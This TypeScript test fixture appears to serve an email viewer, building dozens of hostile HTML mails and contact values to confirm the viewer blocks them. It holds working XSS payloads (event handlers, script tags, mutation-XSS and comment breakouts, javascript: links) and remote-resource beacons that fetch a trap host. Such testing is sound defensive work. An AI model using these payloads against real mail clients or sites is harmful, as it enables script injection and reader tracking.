/*
 * Mails that try to do something when they are looked at: to run a script, to leave the page, to fetch from elsewhere.
 * Each says so at `trap`, an address that nobody may ask, and as `RAN` on the console.
 */
export type Hostile = {
  name: string;
  html: string;
  /** Where nothing stops it, today's Chromium does what is asked here by itself: shown by the counter-test. */
  works: boolean;
};

export function hostileMails(trap: string): Hostile[] {
  const script = `console.log('RAN');fetch('${trap}/script');try{top.hacked=1}catch{}`;
  const run = script.replaceAll('"', "&quot;");
  const works = (name: string, html: string): Hostile => ({ name, html, works: true });
  const tries = (name: string, html: string): Hostile => ({ name, html, works: false });
  return [
    works("script", `<p>Hello</p><script>${script}</script>`),
    works("script from elsewhere", `<p>Hello</p><script src="${trap}/x.js"></script>`),
    works(
      "module from elsewhere",
      `<p>Hello</p><script type="module">import '${trap}/m.js'</script>`,
    ),
    works("picture that fails", `<p>Hello</p><img src="data:," onerror="${run}">`),
    works("picture from elsewhere", `<p>Hello</p><img src="${trap}/i.png" alt="">`),
    works("srcset", `<p>Hello</p><img srcset="${trap}/s1.png 1x, ${trap}/s2.png 2x" alt="">`),
    works(
      "picture sources",
      `<p>Hello</p><picture><source srcset="${trap}/p.webp"><img alt=""></picture>`,
    ),
    works("svg onload", `<p>Hello</p><svg onload="${run}"></svg>`),
    works("svg script", `<p>Hello</p><svg><script>${script}</script></svg>`),
    works(
      "svg image",
      `<p>Hello</p><svg><image href="${trap}/svg.png" width="9" height="9"/></svg>`,
    ),
    works(
      "svg animation",
      `<p>Hello</p><svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    ),
    works("focus by itself", `<p>Hello</p><input autofocus onfocus="${run}">`),
    works("details", `<p>Hello</p><details open ontoggle="${run}"><summary>x</summary></details>`),
    works("body onload", `<html><body onload="${run}"><p>Hello</p></body></html>`),
    works(
      "animation handler",
      `<style>@keyframes k{to{color:red}}</style><p style="animation:k 1ms" onanimationend="${run}">Hello</p>`,
    ),
    works(
      "video",
      `<p>Hello</p><video src="${trap}/v.mp4" poster="${trap}/v.png" autoplay></video>`,
    ),
    works("audio", `<p>Hello</p><audio src="${trap}/a.mp3" autoplay onerror="${run}"></audio>`),
    works("frame", `<p>Hello</p><iframe src="${trap}/frame"></iframe>`),
    works("frame with script", `<p>Hello</p><iframe srcdoc="<script>${run}</script>"></iframe>`),
    works("frame by javascript", `<p>Hello</p><iframe src="javascript:${run}"></iframe>`),
    works("object", `<p>Hello</p><object data="${trap}/object.html"></object>`),
    works("embed", `<p>Hello</p><embed src="${trap}/embed.html">`),
    works("stylesheet", `<link rel="stylesheet" href="${trap}/l.css"><p>Hello</p>`),
    works("import of styles", `<style>@import url("${trap}/i.css");</style><p>Hello</p>`),
    works("background", `<p style="background:url(${trap}/b.png)">Hello</p>`),
    works("list picture", `<ul style="list-style-image:url('${trap}/li.png')"><li>Hello</ul>`),
    works("content", `<style>p::before{content:url(${trap}/c.png)}</style><p>Hello</p>`),
    works("cursor and mask", `<p style="mask-image:url(${trap}/mask.png)">Hello</p>`),
    works(
      "font",
      `<style>@font-face{font-family:X;src:url(${trap}/f.woff2)}p{font-family:X}</style><p>Hello</p>`,
    ),
    works("preload", `<link rel="preload" as="image" href="${trap}/pre.png"><p>Hello</p>`),
    works("prefetch", `<link rel="prefetch" href="${trap}/fetch"><p>Hello</p>`),
    tries(
      "names asked for ahead",
      `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${trap}"><p>Hello</p>`,
    ),
    tries("modulepreload", `<LINK\nrel="modulepreload" href="${trap}/mp.js"><p>Hello</p>`),
    tries(
      "speculation",
      `<script type="speculationrules">{"prefetch":[{"urls":["${trap}/spec"]}]}</script><p>Hello</p>`,
    ),
    // These tests begin Chromium without its habit of connecting ahead; the app’s own page has no such link at all.
    tries("preconnect", `<link rel="preconnect" href="${trap}"><p>Hello</p>`),
    works(
      "icon and manifest",
      `<link rel="manifest" href="${trap}/m.json"><img src="${trap}/icon.ico"><p>Hello</p>`,
    ),
    works("refresh", `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><p>Hello</p>`),
    works("base", `<base href="${trap}/"><p>Hello</p><img src="relative.png" alt="">`),
    works("table background", `<table background="${trap}/t.png"><tr><td>Hello</table>`),
    works(
      "form sent by script",
      `<p>Hello</p><form action="${trap}/form"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    ),
    works(
      "title broken out of",
      `<title><b title="</title><img src=data:, onerror='${script.replaceAll("'", "`")}'>"></title><p>Hello</p>`,
    ),
    works(
      "noscript broken out of",
      `<noscript><p title="</noscript><img src=data:, onerror='${script.replaceAll("'", "`")}'>"></noscript><p>Hello</p>`,
    ),
    works(
      "math and style",
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"><img src="data:," onerror="${run}"></table></math><p>Hello</p>`,
    ),
    works("comment left early", `<!--><img src="data:," onerror="${run}">--><p>Hello</p>`),
    tries("javascript link", `<p>Hello</p><a href="javascript:${run}">go</a>`),
    tries("hidden javascript link", `<p>Hello</p><a href="java&#10;script&colon;${run}">go</a>`),
    tries("data link", `<p>Hello</p><a href="data:text/html,<script>${run}</script>">go</a>`),
    tries("ping", `<p>Hello</p><a href="#top" ping="${trap}/ping">go</a>`),
    tries(
      "button sending a form",
      `<p>Hello</p><form action="${trap}/form"><button>go</button></form>`,
    ),
    tries("click handler", `<p>Hello</p><a href="#top" onclick="${run}">go</a>`),
    tries(
      "expression",
      `<p style="width:expression(${run});behavior:url(${trap}/x.htc)">Hello</p>`,
    ),
    tries("variable in an attribute", `<p title="{{User.UserAttributes.FirstName}}">Hello</p>`),
    tries("variable in an open attribute", `<p title={{User.UserAttributes.FirstName}}>Hello</p>`),
    tries("variable as it is", `<p>Hello {{{User.UserAttributes.FirstName}}}</p>`),
    tries("variable as a link", `<p>Hello</p><a href="{{User.UserAttributes.Site}}">go</a>`),
    tries("right to left and emoji", `<p dir="rtl">שלום \u202Eevil\u202C 👩‍🌾 Hello</p>`),
  ];
}

/** A contact whose values are what a mail should not be broken by. */
export const hostileContact = (trap: string): string[] => [
  "eve@example.com",
  "u1",
  `"><img src=data:, onerror="console.log('RAN');fetch('${trap}/value')"><p x="`,
  "javascript:console.log('RAN')",
];
